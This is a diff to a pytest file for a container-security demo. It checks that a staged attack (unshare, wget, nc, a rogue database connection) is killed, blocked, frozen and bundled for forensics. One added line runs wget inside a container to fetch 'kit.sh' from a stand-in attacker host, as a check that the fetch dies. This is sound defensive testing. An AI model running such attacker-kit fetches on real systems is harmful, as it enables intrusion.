@@ -8,7 +8,9 @@ response in protect mode, then down."""
 from __future__ import annotations
 
 import hashlib
+import json
 import re
+import tarfile
 import urllib.request
 from pathlib import Path
 from typing import Any, Iterator
@@ -104,7 +106,7 @@ def test_attack_in_alert_mode_raises_every_kind_of_alert(demo: DemoInstance) -> 
     assert report["mode"] == "alert"
     # Alert mode stops nothing: the tools ran (unshare itself is refused by Docker's seccomp).
     assert [s["exit_status"] for s in report["steps"]] == [1, 0, 0, 0], report["steps"]
-    assert "the database answered: 5.5.5-" in report["steps"][3]["output"]
+    assert "try 2 - the database answered: 5.5.5-" in report["steps"][3]["output"]
     alerts = demo_alerts(demo)
     pinger, db, web = demo.container("pinger", "app"), demo.container("blog", "db"), demo.container("blog", "web")
     kit_sha256 = hashlib.sha256((REPO / "demo/images/attacker/www/kit.sh").read_bytes()).hexdigest()
@@ -126,6 +128,65 @@ def test_attack_in_alert_mode_raises_every_kind_of_alert(demo: DemoInstance) -> 
     # such as malloc's madvise: low-severity syscall novelties are tolerated here.)
     noise = [a["summary"] for a in alerts if a["container"] == web and (a["kind"], a["severity"]) != ("syscall", "low")]
     assert noise == []
+
+
+def freezer_state(container_id: str) -> str:
+    for path in (f"/sys/fs/cgroup/freezer/docker/{container_id}/freezer.state",
+                 f"/sys/fs/cgroup/freezer/system.slice/docker-{container_id}.scope/freezer.state"):
+        if Path(path).exists():
+            return Path(path).read_text().strip()
+    for path in (f"/sys/fs/cgroup/docker/{container_id}/cgroup.freeze",
+                 f"/sys/fs/cgroup/system.slice/docker-{container_id}.scope/cgroup.freeze"):
+        if Path(path).exists():
+            return "FROZEN" if Path(path).read_text().strip() == "1" else "THAWED"
+    return "?"
+
+
+def test_response_kills_the_tools_blocks_the_connection_freezes_and_writes_the_bundle(demo: DemoInstance) -> None:
+    report = demo.attack("--respond")
+    pinger, db = demo.container("pinger", "app"), demo.container("blog", "db")
+    assert report["mode"] == "protect"
+    steps = report["steps"]
+    # unshare, wget and nc are killed in the kernel before they run: SIGKILL, exit status 137.
+    assert [s["exit_status"] for s in steps[:3]] == [137, 137, 137], steps
+    assert "Killed" in steps[1]["output"]
+    # python3 is part of the app, so it runs. Its first packet to the blog's database is seen
+    # once sent (the first try may get through); the block lands at once and the retry is dropped.
+    assert steps[3]["exit_status"] == 1 and "try 2 - no connection" in steps[3]["output"], steps[3]
+    alerts = demo_alerts(demo)
+    for path in ("/usr/bin/unshare", "/usr/bin/wget", "/usr/bin/nc"):
+        assert find(alerts, pinger, "process", path=path)["action"] == "killed"
+    assert find(alerts, pinger, "network", direction="out", remote_ip=demo.db_ip, remote_port=3306)["action"] == "blocked"
+    blocks = demo.cli_json("blocks")
+    assert any(b["container"] in (pinger, demo.container("pinger", "app")) or demo.db_ip in str(b.get("peer"))
+               for b in blocks), blocks
+    # The blog itself keeps working: its web front end still reads the database.
+    assert "Compose files are topology" in get(demo.blog_url)
+    # Frozen in the kernel, and the bundle written with a manifest that matches its members.
+    row = next(c for c in demo.cli_json("containers") if c["name"] == pinger)
+    assert row["frozen"] is True and freezer_state(row["id"]) == "FROZEN"
+    bundle = Path(report["response"]["forensics"]["path"])
+    assert bundle.is_file() and bundle.parent == demo.state / "forensics"
+    check_bundle(bundle)
+    # Thawed, the container is in protect mode still: a new try of a tool dies with 137.
+    demo.cli("unfreeze", pinger)
+    assert docker("exec", pinger, "wget", "-q", "-O", "/dev/null", f"http://{demo.attacker_ip}/kit.sh",
+                  check=False).returncode == 137
+
+
+def check_bundle(bundle: Path) -> None:
+    with tarfile.open(bundle) as tar:
+        names = tar.getnames()
+        manifests = [n for n in names if "manifest" in n]
+        assert manifests, names
+        manifest = json.loads(tar.extractfile(manifests[0]).read())  # type: ignore[union-attr]
+        entries = manifest.get("members") or manifest.get("files") or manifest
+        listed = {str(e.get("name") or e.get("path")): e.get("sha256") for e in entries} \
+            if isinstance(entries, list) else {str(k): v for k, v in entries.items()}
+        assert len(listed) >= 3, manifest
+        for name, digest in listed.items():
+            member = next(m for m in tar.getmembers() if m.name.endswith(name))
+            assert hashlib.sha256(tar.extractfile(member).read()).hexdigest() == digest, name  # type: ignore[union-attr]
 
 
 def test_down_removes_everything_the_demo_started(demo: DemoInstance) -> None:
